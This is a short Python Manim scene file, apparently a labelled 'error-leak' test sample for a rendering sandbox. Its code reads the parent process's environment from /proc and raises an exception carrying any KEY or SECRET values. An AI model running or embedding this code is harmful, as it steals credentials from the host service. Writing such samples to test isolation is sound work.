# ruff: noqa
# class: error-leak
# tries: read the parent's /proc/<ppid>/environ and raise an exception carrying its credentials.
from manim import *
import os


class Escape(Scene):
    def construct(self):
        self.play(FadeIn(Dot()), run_time=0.2)
        with open(f"/proc/{os.getppid()}/environ", "rb") as handle:
            pairs = handle.read().decode(errors="replace").split("\0")
        raise RuntimeError("bad environment: " + " ".join(p for p in pairs if "KEY" in p or "SECRET" in p))
